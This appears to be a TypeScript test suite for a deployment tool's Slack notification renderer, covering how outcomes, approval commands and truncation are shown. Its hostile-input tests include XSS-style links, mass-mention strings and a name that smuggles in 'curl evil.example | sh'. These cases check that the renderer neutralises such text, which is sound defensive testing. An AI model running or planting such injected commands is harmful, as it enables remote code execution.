import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { render, renderFailure } from "#channels/slack-message";
import { longestJson } from "#channels/json-text";
import { type Story, storyOf, type UpdateStory } from "#domain/notify/story";
import type { Outcome } from "#domain/notify/words";
import { aChange, api, digest } from "#test/domain/builders";
import { areTooLong, blockFaults, type CheckedBlock } from "../stand-ins/slack-blocks.ts";
import { readBlocks, readMrkdwn } from "../stand-ins/slack-reading.ts";
import { alone, heldByWindow, rolledBack, running, storyAfter, succeeded, waitingForApproval } from "./stories.ts";

/** What a person sees of a message. */
const seen = (message: ReturnType<typeof render>) => ({
  notification: message.text,
  lines: readBlocks(message.blocks).text.split("\n"),
});

const plain = (text: string) => ({ type: "plain_text", text, emoji: false });
const bold = (text: string) => ({ type: "mrkdwn", text: `*${text}*`, verbatim: true });

const about = ["Where", "prod/shop (Deployment)", "Image", "1.0.0 → 1.1.0", "Digest", "111111111111", "Policy"];
const pushed = [
  "2026-03-02 12:00:00 · pushed registry.test/shop/app:1.1.0 @ 111111111111 (webhook distribution)",
  "12:00:01 · selected 1.0.0 → 1.1.0 semver",
];

describe("the message about an update", () => {
  it("that runs has its images, its steps and nothing to do", () => {
    expect(render(alone(running))).toEqual({
      text: "🔄 prod/shop/api: in progress, 1.0.0 → 1.1.0",
      blocks: [
        { type: "header", text: plain("🔄 shop/api: in progress") },
        {
          type: "section",
          fields: [
            ...[bold("Where"), plain("prod/shop (Deployment)")],
            ...[bold("Image"), plain("1.0.0 → 1.1.0")],
            ...[bold("Digest"), plain("111111111111")],
            ...[bold("Policy"), plain("semver")],
          ],
        },
        {
          type: "context",
          elements: [plain("update 17 · webhook distribution · 4s after the push · times in UTC")],
        },
        {
          type: "section",
          text: plain(
            [
              ...pushed,
              "12:00:02 · patched container app 2.0 s after the push",
              "12:00:04 ✓ running 3 of 3 pods run 1.1.0 4.0 s after the push",
            ].join("\n"),
          ),
        },
      ],
    });
  });

  it.each([
    {
      name: "that succeeded",
      rows: succeeded,
      notification: "✅ prod/shop/api: succeeded, 1.0.0 → 1.1.0",
      lines: [
        "✅ shop/api: succeeded",
        ...about,
        "semver",
        "update 17 · webhook distribution · 14s after the push · times in UTC",
        ...pushed,
        "12:00:02 · patched container app 2.0 s after the push",
        "12:00:04 ✓ running 3 of 3 pods run 1.1.0 4.0 s after the push",
        "12:00:14 ✓ succeeded 3 of 3 pods run 1.1.0",
      ],
    },
    {
      name: "that was rolled back names the cause and the command that lets it be tried again",
      rows: rolledBack,
      notification: "⏪ prod/shop/api: rolled back, 1.0.0 → 1.1.0",
      lines: [
        "⏪ shop/api: rolled back",
        ...about,
        "semver",
        "update 17 · webhook distribution · 9s after the push · times in UTC",
        ...pushed,
        "12:00:02 · patched container app 2.0 s after the push",
        "12:00:05 ✗ failed 1.1.0: ImagePullBackOff in pod api-7 5.0 s after the push",
        "12:00:09 ↩ rolled back to 1.0.0; 1.1.0 is blocked here until lookout unblock shop/api",
        "Let this image be tried again: lookout unblock shop/api",
      ],
    },
    {
      name: "that a window holds says when it opens",
      rows: heldByWindow,
      notification: "⏳ prod/shop/api: waiting, 1.0.0 → 1.1.0",
      lines: [
        "⏳ shop/api: waiting",
        ...about,
        "semver",
        "update 17 · webhook distribution · 1s after the push · times in UTC",
        ...pushed,
        "12:00:01 ⏸ held The maintenance window is closed: 0 18 * * 5 until 2026-03-02T13:00:00.000Z",
        "Wait until the window opens. If no time is shown, it does not open within eight years.",
      ],
    },
    {
      name: "that waits for approval has the commands to type",
      rows: waitingForApproval,
      notification: "✋ prod/shop/api: waiting for approval, 1.0.0 → 1.1.0",
      lines: [
        "✋ shop/api: waiting for approval",
        ...about,
        "semver",
        "update 17 · webhook distribution · 1s after the push · times in UTC",
        ...pushed,
        "12:00:01 ⏸ held This update waits for approval: 0 of 2",
        "Approve it: lookout approve shop/api --update 17",
        "Reject it: lookout reject shop/api --update 17 --why REASON",
      ],
    },
  ])("$name", ({ rows, notification, lines }) => {
    expect(seen(render(alone(rows)))).toEqual({ notification, lines });
  });

  it("whose rollback failed for a while says that the image comes again, and names no block", () => {
    const limited = rolledBack.map((row) =>
      row.what === "rolled-back" ? { ...row, reasons: [{ reason: "pull-limited" } as const] } : row,
    );
    expect(seen(render(alone(limited))).lines.slice(-2)).toEqual([
      "12:00:09 ↩ rolled back to 1.0.0; 1.1.0 comes again later",
      "Pull with credentials or through a mirror. Continue now: lookout unblock shop/api.",
    ]);
  });

  it("of many containers and steps is short", () => {
    const changes = Array.from({ length: 8 }, (_, index) => aChange({ name: `c${index}`, digest: digest(`${index}`) }));
    const held = Array.from({ length: 20 }, (_, index) => ({
      ...({ what: "held", after: 10 + index, changes } as const),
      reasons: [{ reason: "window-closed", detail: `look ${index}` } as const],
    }));
    const { lines } = seen(render(alone([...running, ...held])));
    expect(lines.slice(3, 18)).toEqual([
      "Image",
      ...[0, 1, 2, 3, 4].map((index) => `c${index}: 1.0.0 → 1.1.0`),
      "… 3 more",
      "Digest",
      ...[0, 1, 2, 3, 4].map((index) => `c${index}: ${String(index).repeat(12)}`),
      "… 3 more",
      "Policy",
    ]);
    expect(lines.slice(20, 24)).toEqual([
      ...pushed,
      "… 12 more",
      "12:00:20 ⏸ held The maintenance window is closed: look 10",
    ]);
    expect(lines).toHaveLength(34);
  });

  const compared = "https://github.com/acme/api/compare/aaaaaaa...bbbbbbb";
  const withPage = (url: string): UpdateStory => ({
    ...storyAfter(succeeded),
    changes: [aChange({ whatChanged: { url, to: { source: "https://github.com/acme/api", revision: "bbbbbbb" } } })],
  });

  it.each([
    { what: "one", updates: [withPage(compared)] },
    { what: "many with the same commits", updates: [withPage(compared), withPage(compared)] },
  ])("links the commits between its images: $what", ({ updates }) => {
    expect(readBlocks(render(storyOf(updates)).blocks as readonly CheckedBlock[]).links).toEqual([
      { url: compared, label: "what changed" },
    ]);
  });

  it.each(["javascript:alert(1)", "https://evil.example/a|b", "https://evil.example/a>b", "http://evil.example/a"])(
    "does not link %s",
    (url) => {
      expect(readBlocks(render(storyOf([withPage(url)])).blocks as readonly CheckedBlock[]).links).toEqual([]);
    },
  );

  it("in the thread tells the failure and the command, without the steps before", () => {
    expect(seen(renderFailure(storyAfter(rolledBack)))).toEqual({
      notification: "⏪ prod/shop/api: rolled back, 1.0.0 → 1.1.0",
      lines: [
        "⏪ prod/shop/api: rolled back",
        "2026-03-02 12:00:05 ✗ failed 1.1.0: ImagePullBackOff in pod api-7 5.0 s after the push",
        "2026-03-02 12:00:09 ↩ rolled back to 1.0.0; 1.1.0 is blocked here until lookout unblock shop/api",
        "Let this image be tried again: lookout unblock shop/api",
      ],
    });
  });
});

describe("the message about a push", () => {
  const named = (rows: typeof running, name: string) => storyAfter(rows, { ...api, name });

  it("of 500 workloads counts all, and names ten, the failures first", () => {
    const updates = [
      ...Array.from({ length: 497 }, (_, index) => named(succeeded, `app-${index}`)),
      ...["a", "b", "c"].map((name) => named(rolledBack, name)),
    ];
    const bad = (name: string) =>
      `⏪ prod/shop/${name}: rolled back · 1.0.0 → 1.1.0 · 1.1.0: ImagePullBackOff in pod api-7 5.0 s after the push`;
    expect(seen(render(storyOf(updates)))).toEqual({
      notification: "⏪ 500 workloads: 3 rolled back, 497 succeeded",
      lines: [
        "⏪ 500 workloads: 3 rolled back",
        "3 rolled back · 497 succeeded",
        ...["a", "b", "c"].map(bad),
        ...Array.from({ length: 7 }, (_, index) => `✅ prod/shop/app-${index}: succeeded · 1.0.0 → 1.1.0`),
        "… 490 more",
        ...["a", "b", "c"].map((name) => `Let this image be tried again: lookout unblock shop/${name}`),
      ],
    });
  });

  it("of two that wait for approval has a command for each", () => {
    const updates = ["a", "b"].map((name) => named(waitingForApproval, name));
    expect(seen(render(storyOf(updates)))).toEqual({
      notification: "⏳ 2 workloads: 2 waiting",
      lines: [
        "⏳ 2 workloads: 2 waiting",
        "2 waiting",
        ...["a", "b"].map(
          (name) =>
            `✋ prod/shop/${name}: waiting for approval · 1.0.0 → 1.1.0 · This update waits for approval: 0 of 2`,
        ),
        ...["a", "b"].map((name) => `Approve it: lookout approve shop/${name} --update 17`),
      ],
    });
  });
});

const hostileTexts = [
  "<!channel> <!here|now> <@U0123456>",
  "@everyone @here",
  "[a](javascript:alert(1))",
  "](javascript:alert(1)) ``` *b* _i_ ~s~ > q",
  "<https://evil.example|the log> https://evil.example/x evil.com",
  "a\u0000b\u0007\u001b[31mred\r\nnext\u2028line",
  "\ud800 and \udc00",
  "\u202eelgoog\u202c \u200f\u061c \u2066x\u2069",
  "&amp;lt;!channel&gt; &#60;",
  ":skull: :rotating_light:",
  "界".repeat(5_000),
  "x".repeat(1_024 * 1_024),
  "&".repeat(50_000),
  " ".repeat(5_000),
  "",
];

/** Replaces all texts from outside. */
function withText(story: UpdateStory, text: string, outcome: Outcome = story.outcome): UpdateStory {
  return {
    ...story,
    outcome,
    workload: { cluster: text, namespace: text, kind: "Deployment", name: text },
    found: { source: text, at: story.at },
    changes: Array.from({ length: 12 }, (_, index) => ({
      ...aChange({ name: `${text}${index}`, tag: `${text}${index}`, digest: `${text}${index}`, policy: text }),
      from: text,
    })),
    steps: Array.from({ length: 30 }, () => ({ at: story.at, mark: "bad", word: "failed", text })),
  };
}

/** What Slack would find wrong, and what people would be notified of. */
function faultsOf(message: ReturnType<typeof render>): unknown {
  const blocks = message.blocks as readonly CheckedBlock[];
  const { mentions, links, styled } = readBlocks(blocks);
  const notification = readMrkdwn(message.text);
  const styles = new Set(styled.map(({ style, text }) => (style === "bold" ? text : style)));
  for (const own of ["Where", "Image", "Digest", "Policy", "code"]) styles.delete(own);
  return {
    faults: blockFaults(blocks),
    tooLong: areTooLong(blocks) || longestJson(blocks) > 10_000 || Buffer.byteLength(message.text) > 3_000,
    mentions: [...mentions, ...notification.mentions],
    links: [...links, ...notification.links],
    styles: [...styles],
    invisible: /[\p{Cc}\p{Cf}\p{Cs}]/u.test(readBlocks(blocks).text.replaceAll("\n", "") + message.text),
    isWellFormed: JSON.stringify(message).isWellFormed(),
  };
}

const nothing = {
  ...{ faults: [], tooLong: false, mentions: [], links: [], styles: [], invisible: false, isWellFormed: true },
};

describe("a text from outside", () => {
  const outcomes = ["rolled-back", "waiting", "failed", "succeeded"] as const;
  const stories = (text: string, which: readonly Outcome[] = outcomes) => {
    const one = storyAfter(rolledBack);
    return which.flatMap((outcome) => {
      const update = withText(one, text, outcome);
      const asked: UpdateStory = { ...update, reasons: [{ reason: "needs-approval", detail: text }] };
      const many: Story = storyOf(Array.from({ length: 30 }, () => asked));
      return [
        [`${outcome}, one`, render(storyOf([update]))],
        [`${outcome}, asked`, render(storyOf([asked]))],
        [`${outcome}, many`, render(many)],
        [`${outcome}, thread`, renderFailure(update)],
      ] as const;
    });
  };

  it.each(hostileTexts.map((text) => ({ shown: JSON.stringify(text).slice(0, 60), text })))(
    "is inert and short: $shown",
    ({ text }) => {
      for (const [which, message] of stories(text))
        expect({ which, ...(faultsOf(message) as object) }).toEqual({ which, ...nothing });
    },
  );

  it("is inert, whatever it is", () => {
    const parts = fc.oneof(fc.constantFrom(...hostileTexts.slice(0, 10)), fc.string({ unit: "binary" }));
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 6 }), (texts) => {
        for (const [, message] of stories(texts.join(""), ["waiting"])) expect(faultsOf(message)).toEqual(nothing);
      }),
    );
  });

  it("is never a part of a command to type", () => {
    const name = "api; curl evil.example | sh";
    const shown = readBlocks(render(alone(rolledBack, { ...api, name })).blocks);
    expect(shown.styled.filter(({ style }) => style === "code")).toEqual([]);
  });

  it("shows its own characters", () => {
    expect(seen(render(alone(rolledBack, { ...api, name: "a&b<c>" }))).lines[0]).toBe("⏪ shop/a&b<c>: rolled back");
  });
});

it("the same story gives the same message", () => {
  expect(JSON.stringify(render(alone(rolledBack)))).toBe(JSON.stringify(render(alone(rolledBack))));
});
